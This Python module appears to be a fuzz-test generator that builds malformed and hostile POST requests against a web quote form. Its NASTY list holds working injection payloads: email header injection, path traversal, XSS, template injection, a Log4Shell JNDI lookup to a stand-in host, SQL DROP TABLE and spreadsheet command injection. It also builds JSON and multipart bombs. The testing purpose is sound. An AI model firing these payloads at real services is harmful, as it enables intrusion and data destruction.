"""Posts as attackers write them, drawn by a seed: header injection, odd encodings, bombs, bodies cut short."""

from __future__ import annotations

import json
import os
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import random

FIELDS = ("name", "email", "phone", "company", "message", "employees", "sites", "audit", "addons", "travel.to", "travel.km", "request", "shown_total",
          "idempotency_key", "_gotcha", "_next", "_elapsed", "altcha", "_replyto", "_subject", "_cc", "_bcc", "to", "from", "report", "on")  # fmt: skip
NASTY = (
    "", " ", "\0", "\r\nBcc: victim@example.com\r\n\r\nbody", "a@b.ca\nBcc: victim@example.com", "ann@example.ca,victim@example.com",
    '"victim@example.com" <ann@example.ca>', "=?utf-8?q?=0d=0aBcc:victim@example.com?=", "%0d%0aBcc:victim@example.com", "\u2028Bcc: victim@example.com",
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "//evil.example/x", "/\\evil.example", "https://evil.example", "javascript:alert(1)",
    "<script>alert(1)</script>", "{{7*7}}{% for x in ().__class__.__base__.__subclasses__() %}", "${jndi:ldap://evil.example/a}", "' OR 1=1; DROP TABLE quotes;--",
    "\ud800", "\U0001f600" * 300, "\u202e\u0000\ufeff", "A" * 20_000, "9" * 5000, "-1", "1e309", "NaN", "0x10", "1_000", "١٢", "12.5", "null", "[]", "{}",
    "certification", "ann@example.ca", "12", "true", "2026-11-24", "9999-99-99", "=cmd|'/c calc'!A1", "\x1b[2J", "%s%s%s%n", "\N{COMBINING ACUTE ACCENT}" * 2000,
)  # fmt: skip


def text(pace: random.Random) -> str:
    """Return a value that somebody might try."""
    if pace.random() < 0.8:  # noqa: PLR2004
        return pace.choice(NASTY)
    return "".join(chr(pace.choice((pace.randrange(32, 127), pace.randrange(0xD7FF)))) for _ in range(pace.randrange(60)))


def pairs(pace: random.Random) -> list[tuple[str, str]]:
    """Return fields; in half of the cases the ones that must be right are, so that the bad ones get further."""
    pairs = [(pace.choice(FIELDS) if pace.random() < 0.95 else text(pace), text(pace)) for _ in range(pace.randrange(12))]  # noqa: PLR2004
    if pace.random() < 0.5:  # noqa: PLR2004
        pairs = [pair for pair in pairs if pair[0] not in {"name", "email"}]
        pairs += [("name", text(pace) or "Ann"), ("email", f"ann{pace.randrange(10**9)}@example.ca")]
    return pairs


def escaped(value: str) -> bytes:
    """Return a value for an urlencoded body, half characters and all."""
    return "".join(f"%{byte:02x}" for byte in value.encode("utf-8", "surrogatepass")).encode()


def as_urlencoded(pace: random.Random) -> tuple[str, bytes]:
    """An urlencoded body, sometimes with bytes that are no text."""
    body = b"&".join(escaped(name) + b"=" + escaped(value) for name, value in pairs(pace))
    if pace.random() < 0.2:  # noqa: PLR2004
        body += pace.choice((b"&%", b"&=&=&&", b"&name=%ff%fe", b"&" * 5000, b"&a=1" * 400, os.urandom(200)))
    return "application/x-www-form-urlencoded", body


def nested(pace: random.Random, depth: int) -> Any:
    """Some JSON."""
    if depth <= 0 or pace.random() < 0.4:  # noqa: PLR2004
        return pace.choice((None, True, -1, 10**400, 1.5, text(pace), [], {}))
    if pace.random() < 0.5:  # noqa: PLR2004
        return [nested(pace, depth - 1) for _ in range(pace.randrange(4))]
    return {pace.choice(FIELDS): nested(pace, depth - 1) for _ in range(pace.randrange(4))}


def as_json(pace: random.Random) -> tuple[str, bytes]:
    """A JSON body: broken, deep, huge, or of the wrong kinds."""
    if pace.random() < 0.2:  # noqa: PLR2004
        bombs = (
            b"[" * 100_000, b'{"a":' * 100_000, b'{"n":' + b"9" * 100_000 + b"}", b'{"name":NaN}', b"\xff\xfe{\x00}", b"", b"null", b"[]", b'"x"',
            b'{"request":' + b"[" * 5000 + b"]" * 5000 + b"}", b'{"travel":' + b'{"to":' * 200 + b"1" + b"}" * 201, b'{"name":"\\ud800","email":"ann@example.ca"}',
            b'{"name":"a","name":"b","email":"ann@example.ca"}', b'{"addons":[' + b'"x",' * 20_000 + b'"x"]}',
        )  # fmt: skip
        return "application/json", pace.choice(bombs)
    body: dict[str, Any] = dict(pairs(pace))
    if pace.random() < 0.6:  # noqa: PLR2004
        body[pace.choice(FIELDS)] = nested(pace, 5)
    return "application/json", json.dumps(body).encode()


def as_multipart(pace: random.Random) -> tuple[str, bytes]:
    """A multipart body: odd file names, odd headers, cut short."""
    edge = pace.choice(("x", "----WebKitFormBoundary7", "é", "a b", "x" * 300, ""))
    parts = []
    for name, value in pairs(pace):
        head = f'Content-Disposition: form-data; name="{name}"'
        if name == "report" or pace.random() < 0.1:  # noqa: PLR2004
            head += f'; filename="{text(pace)[:300]}"\r\nContent-Type: {pace.choice(("application/pdf", "text/html", "x", ""))}'
            value = pace.choice(("%PDF-1.7\n" + value, value, "MZ" + value, "%PDF-" + "0" * 100_000))  # noqa: PLW2901 -- the attack is on this field
        if pace.random() < 0.05:  # noqa: PLR2004
            head += pace.choice(("\r\nContent-Transfer-Encoding: base64", "\r\nX: " + "y" * 9000, "\r\n" * 3, "\nno-colon"))
        parts.append(f"--{edge}\r\n{head}\r\n\r\n{value}\r\n".encode("utf-8", "surrogatepass"))
    body = b"".join(parts) + f"--{edge}--\r\n".encode()
    if pace.random() < 0.3:  # noqa: PLR2004
        body = body[: pace.randrange(len(body) + 1)]
    if pace.random() < 0.05:  # noqa: PLR2004
        body = b"--" * 50_000 + body
    return f"multipart/form-data; boundary={pace.choice((edge, edge, edge, 'other', ''))}", body


def as_other(pace: random.Random) -> tuple[str, bytes]:
    """A body of some other kind."""
    kinds = (
        "text/plain",
        "",
        "application/xml",
        "multipart/mixed; boundary=x",
        "application/json; charset=utf-7",
        "a" * 5000,
        "multipart/form-data",
    )
    return pace.choice(kinds), text(pace).encode("utf-8", "surrogatepass")


MAKERS = (as_urlencoded, as_urlencoded, as_json, as_json, as_multipart, as_multipart, as_other)


def hostile(pace: random.Random) -> tuple[str, dict[str, str], bytes]:
    """Return a path, headers and a body."""
    kind, body = pace.choice(MAKERS)(pace)
    headers = {"Content-Type": kind.encode("utf-8", "replace").decode("latin-1")}
    headers["Accept"] = pace.choice(("application/json", "text/html", "*/*", "", "a" * 3000, "application/json;q=9", ";;;,,,"))
    if pace.random() < 0.3:  # noqa: PLR2004
        headers[pace.choice(("Origin", "Referer", "X-Forwarded-For", "X-Requested-With", "User-Agent", "Content-Encoding", "Range"))] = (
            pace.choice(("null", "https://evil.example", "XMLHttpRequest", "gzip", "é\x7f", "bytes=0-", "1.2.3.4, 5.6.7.8", "a" * 4000))
        )
    return pace.choice(("/quote", "/quote", "/quote", "/quote/", "/estimate", "/f/anything")), headers, body
